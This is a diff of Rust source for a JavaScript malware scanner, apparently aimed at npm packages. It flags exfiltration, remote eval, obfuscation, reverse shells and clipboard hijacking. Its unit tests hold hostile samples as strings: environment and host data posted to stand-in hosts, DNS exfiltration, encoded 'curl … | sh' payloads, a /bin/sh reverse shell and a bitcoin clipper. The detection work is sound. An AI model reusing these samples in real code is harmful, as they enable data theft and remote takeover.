+        let last = name.rsplit('.').next().unwrap_or(&name).to_string();
+        let args = n.child_by_field_name("arguments");
+        let first = args.and_then(|a| a.named_child(0));
+        let line = n.start_position().row as u32 + 1;
+        let snip = snippet(text(n, js.src));
+        if name.starts_with("child_process.") && CHILD_PROCESS.contains(&last.as_str()) {
+            self.push(
+                "JS-CHILD-PROCESS",
+                n,
+                scope,
+                format!("runs a command with `{name}`"),
+            );
+            let mut cmd = first.map(|a| js.loose_str(a)).unwrap_or_default();
+            if matches!(
+                last.as_str(),
+                "spawn" | "spawnSync" | "execFile" | "execFileSync"
+            ) && let Some(rest) = args.and_then(|a| a.named_child(1))
+                && rest.kind() == "array"
+            {
+                cmd.push(' ');
+                cmd.push_str(&js.loose_str(rest));
+            }
+            for p in patterns::command_rules(&cmd) {
+                self.push(p.rule, n, scope, format!("command {}", p.what));
+            }
+            let prog = cmd.split_whitespace().next().unwrap_or("");
+            let prog = prog
+                .rsplit(['/', '\\'])
+                .next()
+                .unwrap_or(prog)
+                .to_ascii_lowercase();
+            if matches!(
+                prog.trim_end_matches(".exe"),
+                "sh" | "bash" | "zsh" | "dash" | "cmd" | "powershell" | "pwsh"
+            ) {
+                self.facts.shell_ref = true;
+            }
+            self.facts.run_program.push((fid, line, scope, snip));
+            return false;
+        }
+        if matches!(
+            name.as_str(),
+            "eval"
+                | "Function"
+                | "vm.runInThisContext"
+                | "vm.runInNewContext"
+                | "vm.runInContext"
+                | "vm.compileFunction"
+        ) || name.ends_with("vm.Script")
+        {
+            let Some(a) = args else { return false };
+            let mut decoded_text = text(a, js.src).to_string();
+            // The initialisers of the names passed, one step back.
+            let mut c = a.walk();
+            for x in a
+                .named_children(&mut c)
+                .filter(|x| x.kind() == "identifier")
+            {
+                for (nm, init) in &js.inits {
+                    if nm == text(x, js.src) {
+                        decoded_text.push_str(text(*init, js.src));
                     }
                 }
             }
-            "string" | "template_string" if strings < 400 => {
-                let s = text(n, src).trim_matches(['\'', '"', '`']).to_string();
-                sink.strings.push_str(&s);
-                sink.strings.push('\n');
-                for (rule, pat) in patterns::string_rules(&s) {
-                    strings += 1;
-                    push(rule, n, format!("string names `{pat}`"), sink);
-                }
-                if s.contains("http") || s.contains("discord") {
-                    for (rule, url, what) in ext::url_rules(&s) {
-                        strings += 1;
-                        let _ = url;
-                        push(rule, n, what, sink);
-                    }
+            if decoded_text.contains("base64")
+                || decoded_text.contains("atob(")
+                || decoded_text.contains("fromCharCode")
+                || decoded_text.contains("'hex'")
+                || decoded_text.contains("\"hex\"")
+            {
+                self.push(
+                    "JS-EVAL-DECODED",
+                    n,
+                    scope,
+                    format!("`{name}` runs decoded code"),
+                );
+            } else if code_arg(&name, a)
+                .is_some_and(|x| !matches!(x.kind(), "string" | "template_string"))
+            {
+                self.evals.push((n, fid, scope, in_net));
+            }
+            return false;
+        }
+        if is_network(&name) {
+            self.push(
+                "JS-NETWORK",
+                n,
+                scope,
+                format!("network access with `{name}`"),
+            );
+            self.facts.network.push((fid, line, scope, snip.clone()));
+            if args.is_some_and(|a| js.sends_collected(a, scope)) {
+                self.push(
+                    "EXFIL-SEND-COLLECTED",
+                    n,
+                    scope,
+                    "sends host or environment data over the network".into(),
+                );
+            }
+            if name.starts_with("dns.")
+                && let Some(h) = first
+                && !matches!(h.kind(), "string")
+                && js.static_str(h).is_none()
+                && js.taint_of(h) != 0
+            {
+                self.push(
+                    "EXFIL-DNS",
+                    n,
+                    scope,
+                    "resolves a host name built from collected data".into(),
+                );
+            }
+            if name.starts_with("net.") || name.starts_with("tls.") {
+                self.socket_line = Some((line, scope, snip));
+            }
+            return true;
+        }
+        // Methods of a request or socket held in a variable: req.write(data), sock.connect().
+        if let Some(obj) = f.child_by_field_name("object")
+            && obj.kind() == "identifier"
+            && js.is_net_var(text(obj, js.src))
+        {
+            if matches!(last.as_str(), "write" | "end" | "send")
+                && args.is_some_and(|a| js.sends_collected(a, scope))
+            {
+                self.push(
+                    "EXFIL-SEND-COLLECTED",
+                    n,
+                    scope,
+                    "sends host or environment data over the network".into(),
+                );
+            }
+            if last == "connect" {
+                self.socket_line = Some((line, scope, snip));
+            }
+            return false;
+        }
+        match name.as_str() {
+            "os.hostname" | "os.userInfo" | "os.networkInterfaces" | "dns.getServers" => {
+                self.push(
+                    "JS-HOSTINFO",
+                    n,
+                    scope,
+                    format!("collects host identity with `{name}`"),
+                );
+                self.facts.host_collect.push((fid, line, scope, snip));
+            }
+            "JSON.stringify"
+                if args.is_some_and(|a| {
+                    text(a, js.src).trim_matches(['(', ')']).trim() == "process.env"
+                }) =>
+            {
+                self.push(
+                    "JS-ENV-BULK",
+                    n,
+                    scope,
+                    "serialises the whole environment".into(),
+                );
+            }
+            "fs.writeFileSync"
+            | "fs.writeFile"
+            | "fs.createWriteStream"
+            | "fs.promises.writeFile"
+            | "fs/promises.writeFile" => {
+                self.writes.push((line, fid, scope, snip, in_net));
+            }
+            _ if is_clipboard_write(&name) => {
+                let wallet = first
+                    .map(|a| js.loose_str(a))
+                    .is_some_and(|s| !malgraph_ioc::extract(&s).wallets.is_empty());
+                if wallet {
+                    self.push(
+                        "STEAL-CLIPPER",
+                        n,
+                        scope,
+                        format!("puts a cryptocurrency address on the clipboard (`{name}`)"),
+                    );
                 }
             }
             _ => {}
         }
+        false
+    }
+
+    fn string(&mut self, n: Node<'t>, scope: Scope) {
+        if self.strings >= 400 {
+            return;
+        }
+        let js = self.js;
+        // A template with substitutions: its literal parts.
+        let s = js.literal(n).unwrap_or_else(|| js.loose_str(n));
         let mut c = n.walk();
-        stack.extend(n.named_children(&mut c));
+        let hex_escapes = n
+            .named_children(&mut c)
+            .filter(|p| p.kind() == "escape_sequence" && text(*p, js.src).starts_with("\\x"))
+            .count();
+        if hex_escapes >= 3 && hex_escapes * 4 * 2 > n.byte_range().len() {
+            self.escaped_strings += 1;
+            if self.hidden.len() < 2000 {
+                self.hidden
+                    .push((n.start_position().row as u32 + 1, s.clone()));
+            }
+        }
+        self.sink.strings.push_str(&s);
+        self.sink.strings.push('\n');
+        for (rule, pat) in patterns::string_rules(&s) {
+            self.strings += 1;
+            self.push(rule, n, scope, format!("string names `{pat}`"));
+        }
+        if s.contains("http") || s.contains("discord") {
+            for (rule, _url, what) in ext::url_rules(&s) {
+                self.strings += 1;
+                self.push(rule, n, scope, what);
+            }
+        } else if bare_host(&s) {
+            // A host name handed to http.request({hostname}) or dns.lookup.
+            for (rule, _url, what) in ext::url_rules(&format!("https://{}/", s.trim())) {
+                if rule != "NET-SUSPICIOUS-HOST"
+                    || !s.bytes().all(|b| b.is_ascii_digit() || b == b'.')
+                {
+                    self.strings += 1;
+                    self.push(rule, n, scope, what);
+                }
+            }
+        }
+    }
+
+    /// File-level conclusions: remote eval, downloads written to disk, reverse shells,
+    /// obfuscator output and the commands it hides.
+    fn finish(mut self) {
+        let net_fids: HashSet<usize> = self.facts.network.iter().map(|(g, ..)| *g).collect();
+        for (n, fid, scope, in_net) in std::mem::take(&mut self.evals) {
+            if in_net || net_fids.contains(&fid) {
+                self.push(
+                    "JS-EVAL-REMOTE",
+                    n,
+                    scope,
+                    "runs code received from the network".into(),
+                );
+            } else {
+                self.push(
+                    "JS-EVAL-DYNAMIC",
+                    n,
+                    scope,
+                    "runs dynamically built code".into(),
+                );
+            }
+        }
+        for (line, fid, scope, snip, in_net) in std::mem::take(&mut self.writes) {
+            if in_net || net_fids.contains(&fid) {
+                self.facts.download_to_file.push((fid, line, scope, snip));
+            }
+        }
+        if self.facts.shell_ref
+            && let Some((line, scope, snip)) = self.socket_line.clone()
+            && memchr::memmem::find(self.js.src, b".pipe(").is_some()
+        {
+            self.sink.findings.push(Raw {
+                rule: "JS-REVERSE-SHELL",
+                file: self.ctx.path.to_string(),
+                line,
+                snippet: snip,
+                layer: 0,
+                message: "a socket is piped into a shell process".into(),
+                stage: Some(scope.stage),
+                factor: scope.factor,
+            });
+        }
+        if self.obf_idents.len() >= 5 || self.escaped_strings >= 3 {
+            let scope = self.ctx.top;
+            let line = self.hidden.first().map_or(1, |h| h.0);
+            let msg = format!(
+                "obfuscator output ({} `_0x` names, {} hex-escaped strings)",
+                self.obf_idents.len(),
+                self.escaped_strings
+            );
+            let mut raws = vec![("JS-OBFUSCATED", line, msg)];
+            // Strings hidden behind escapes are checked as the commands they may be.
+            for (line, s) in &self.hidden {
+                for p in patterns::command_rules(s) {
+                    if !raws.iter().any(|r| r.0 == p.rule) {
+                        raws.push((p.rule, *line, format!("hidden command string {}", p.what)));
+                    }
+                }
+            }
+            for (rule, line, message) in raws {
+                self.sink.findings.push(Raw {
+                    rule,
+                    file: self.ctx.path.to_string(),
+                    line,
+                    snippet: String::new(),
+                    layer: 0,
+                    message,
+                    stage: Some(scope.stage),
+                    factor: scope.factor,
+                });
+            }
+        }
     }
 }
 
-fn required_module(value: Node<'_>, src: &[u8]) -> Option<String> {
-    // require('x') or require('x').y
-    let call = match value.kind() {
-        "call_expression" => value,
-        "member_expression" => value.child_by_field_name("object")?,
-        _ => return None,
-    };
-    if call.kind() != "call_expression" {
-        return None;
+/// The argument of an eval-like call that holds the code: the last one for
+/// `Function(arg1, ..., body)`, the first otherwise.
+fn code_arg<'t>(name: &str, args: Node<'t>) -> Option<Node<'t>> {
+    if name == "Function" {
+        args.named_child(args.named_child_count().saturating_sub(1) as u32)
+    } else {
+        args.named_child(0)
     }
-    let f = call.child_by_field_name("function")?;
-    if text(f, src) != "require" {
-        return None;
-    }
-    let arg = call.child_by_field_name("arguments")?.named_child(0)?;
-    if arg.kind() != "string" {
-        return None;
-    }
-    let m = text(arg, src).trim_matches(['\'', '"', '`']);
-    let m = m.strip_prefix("node:").unwrap_or(m);
-    let mut out = m.to_string();
-    if value.kind() == "member_expression"
-        && let Some(p) = value.child_by_field_name("property")
-    {
-        out = format!("{out}.{}", text(p, src));
-    }
-    Some(out)
 }
 
-fn is_js_network(n: &str) -> bool {
+fn is_clipboard_write(name: &str) -> bool {
+    let lower = name.to_ascii_lowercase();
+    let last = lower.rsplit('.').next().unwrap_or(&lower);
+    (lower.contains("clipboard") && matches!(last, "write" | "writesync" | "writetext"))
+        || matches!(
+            lower.as_str(),
+            "ncp.copy" | "copy-paste.copy" | "clipboard-copy"
+        )
+}
+
+fn is_network(n: &str) -> bool {
     let last = n.rsplit('.').next().unwrap_or(n);
     match n.split('.').next().unwrap_or(n) {
-        "http" | "https" => matches!(last, "request" | "get"),
-        "fetch" => true,
-        "axios" => true,
-        "net" => matches!(last, "connect" | "createConnection" | "Socket"),
+        "http" | "https" | "http2" => matches!(last, "request" | "get" | "connect"),
+        "fetch" | "node-fetch" | "cross-fetch" | "isomorphic-fetch" | "axios" | "got"
+        | "request" | "needle" | "superagent" | "phin" | "bent" | "XMLHttpRequest"
+        | "WebSocket" | "ws" => true,
+        "undici" => matches!(last, "request" | "fetch" | "stream"),
+        "net" | "tls" => matches!(last, "connect" | "createConnection" | "Socket"),
         "dns" => last.starts_with("lookup") || last.starts_with("resolve"),
-        "XMLHttpRequest" => true,
         _ => false,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn run(src: &str, top: Scope) -> (Vec<&'static str>, Facts) {
+        let mut sink = Sink::default();
+        let ctx = JsCtx {
+            path: "package/index.js",
+            top,
+            func: Scope {
+                stage: Stage::Runtime,
+                factor: 0.6,
+            },
+            max_parse: 1 << 20,
+        };
+        let facts = analyze(src.as_bytes(), &ctx, &mut sink);
+        (sink.findings.iter().map(|r| r.rule).collect(), facts)
+    }
+
+    #[test]
+    fn aliases_resolve_direct_require_destructuring_and_members() {
+        for src in [
+            "require('child_process').exec('id')",
+            "const { exec } = require('node:child_process'); exec('id')",
+            "const cp = require('child_process'); const run = cp.execSync; run('id')",
+            "import('child_process').then(m => m.exec('id')); const c = await import('child_process'); c.exec('id')",
+            "process.mainModule.require('child_process')['exec']('id')",
+        ] {
+            let (rules, facts) = run(src, Scope::IMPORT);
+            assert!(rules.contains(&"JS-CHILD-PROCESS"), "{src}: {rules:?}");
+            assert!(!facts.run_program.is_empty(), "{src}");
+        }
+    }
+
+    #[test]
+    fn collected_data_flowing_into_a_request_is_exfiltration() {
+        let src = r#"
+const os = require("os"), https = require("https");
+const data = JSON.stringify({ hn: os.hostname(), un: os.userInfo().username });
+const post = "msg=" + data;
+const req = https.request({ hostname: "x.oast.fun", method: "POST" }, (res) => {});
+req.write(post);
+req.end();
+"#;
+        let (rules, facts) = run(src, Scope::INSTALL);
+        assert!(rules.contains(&"EXFIL-SEND-COLLECTED"), "{rules:?}");
+        assert!(
+            rules.contains(&"EXFIL-PASTE"),
+            "bare request-catcher host: {rules:?}"
+        );
+        assert!(!facts.host_collect.is_empty() && !facts.network.is_empty());
+        // Host name sent by a function at run time (a monitoring SDK) is not enough.
+        let sdk = "const os = require('os'); function send(e) { fetch(u, { body: JSON.stringify({ server: os.hostname(), e }) }); }";
+        assert!(!run(sdk, Scope::IMPORT).0.contains(&"EXFIL-SEND-COLLECTED"));
+        // A token as an API client's auth header at run time is not either; at install it is.
+        let api = "function f() { return fetch('https://api.github.com/user', { headers: { authorization: process.env.GITHUB_TOKEN } }); }";
+        assert!(!run(api, Scope::IMPORT).0.contains(&"EXFIL-SEND-COLLECTED"));
+        // Names bound in several places (bundles) are not followed.
+        let bundle = "function a() { const body = JSON.stringify(process.env); log(body); }\nfunction b(socket) { const body = read(); socket.write(body); }\nconst socket = require('net').connect(1, 'h');";
+        assert!(
+            !run(bundle, Scope::IMPORT)
+                .0
+                .contains(&"EXFIL-SEND-COLLECTED")
+        );
+        let install = "fetch('https://api.example/x', { body: process.env.NPM_TOKEN })";
+        assert!(
+            run(install, Scope::INSTALL)
+                .0
+                .contains(&"EXFIL-SEND-COLLECTED")
+        );
+    }
+
+    #[test]
+    fn dns_names_built_from_host_data_are_exfiltration() {
+        let src = "const dns = require('dns'), os = require('os');\nconst d = Buffer.from(os.hostname()).toString('hex');\nd.match(/.{1,60}/g).forEach((c) => dns.lookup(`${c}.x.example`, () => {}));";
+        assert!(run(src, Scope::INSTALL).0.contains(&"EXFIL-DNS"));
+        let ok =
+            "const dns = require('dns'); function check(h) { dns.lookup(`${h}.local`, () => {}); }";
+        assert!(!run(ok, Scope::IMPORT).0.contains(&"EXFIL-DNS"));
+    }
+
+    #[test]
+    fn eval_inside_a_response_callback_is_remote_code() {
+        let src = "const https = require('https');\nhttps.get('https://x.example/p', (r) => { let d = ''; r.on('data', (c) => d += c); r.on('end', () => eval(d)); });";
+        assert!(run(src, Scope::INSTALL).0.contains(&"JS-EVAL-REMOTE"));
+        let local = "function render(t) { return new Function('o', t); }";
+        let rules = run(local, Scope::IMPORT).0;
+        assert!(rules.contains(&"JS-EVAL-DYNAMIC") && !rules.contains(&"JS-EVAL-REMOTE"));
+    }
+
+    #[test]
+    fn escapes_and_static_strings_are_decoded() {
+        let src = r"const c = '\x63\x75\x72\x6c -s http://x.example/a | sh'; require('child_process').exec(c);";
+        let rules = run(src, Scope::INSTALL).0;
+        assert!(rules.contains(&"CMD-STAGED-EXEC"), "{rules:?}");
+        let b64 = "const cp = require('child_process'); cp.exec(Buffer.from('Y3VybCBodHRwOi8veC5leGFtcGxlL2EgfCBzaA==', 'base64').toString());";
+        assert!(run(b64, Scope::INSTALL).0.contains(&"CMD-STAGED-EXEC"));
+    }
+
+    #[test]
+    fn callbacks_run_with_their_caller_handlers_do_not() {
+        let src = "const cp = require('child_process');\nsetTimeout(() => cp.exec('id'), 10);\napp.get('/x', (req, res) => cp.exec('id'));\nfunction later() { cp.exec('id'); }\nfunction now() { cp.exec('id'); }\nnow();";
+        let (_, facts) = run(src, Scope::IMPORT);
+        let stages: Vec<Stage> = facts.run_program.iter().map(|r| r.2.stage).collect();
+        assert_eq!(
+            stages,
+            vec![Stage::Import, Stage::Runtime, Stage::Runtime, Stage::Import]
+        );
+    }
+
+    #[test]
+    fn obfuscator_output_and_its_hidden_commands() {
+        let src = r"var _0x1a2b=['\x63\x75\x72\x6c\x20\x68\x74\x74\x70\x3a\x2f\x2f\x78\x2e\x65\x78\x61\x6d\x70\x6c\x65\x2f\x61\x7c\x73\x68','\x65\x78\x65\x63','\x63\x68\x69\x6c\x64\x5f\x70\x72\x6f\x63\x65\x73\x73'];var _0x3c4d=function(_0x5e6f,_0x7a8b){return _0x1a2b[_0x5e6f];};var _0x9c0d=_0x3c4d;";
+        let rules = run(src, Scope::INSTALL).0;
+        assert!(rules.contains(&"JS-OBFUSCATED"), "{rules:?}");
+        assert!(rules.contains(&"CMD-STAGED-EXEC"), "{rules:?}");
+        // ANSI colour escapes and a few `_0x`-free minified names are not obfuscation.
+        let ok =
+            r"console.log('\x1b[31m' + a + '\x1b[0m'); var a=1,b=2,c=function(d,e){return d+e};";
+        assert!(!run(ok, Scope::IMPORT).0.contains(&"JS-OBFUSCATED"));
+    }
+
+    #[test]
+    fn reverse_shell_and_clipper() {
+        let rs = "const net = require('net'), cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', []);\nconst c = new net.Socket();\nc.connect(4444, '203.0.113.5', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });";
+        assert!(run(rs, Scope::IMPORT).0.contains(&"JS-REVERSE-SHELL"));
+        let server = "const net = require('net'), cp = require('child_process');\nconst c = net.connect(80, 'h');\nc.pipe(process.stdout);\ncp.execSync('git status');";
+        assert!(!run(server, Scope::IMPORT).0.contains(&"JS-REVERSE-SHELL"));
+        let clip = "const clipboardy = require('clipboardy');\nclipboardy.writeSync('bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh');";
+        assert!(run(clip, Scope::IMPORT).0.contains(&"STEAL-CLIPPER"));
+        let copy = "const clipboardy = require('clipboardy');\nclipboardy.writeSync(text);";
+        assert!(!run(copy, Scope::IMPORT).0.contains(&"STEAL-CLIPPER"));
     }
 }
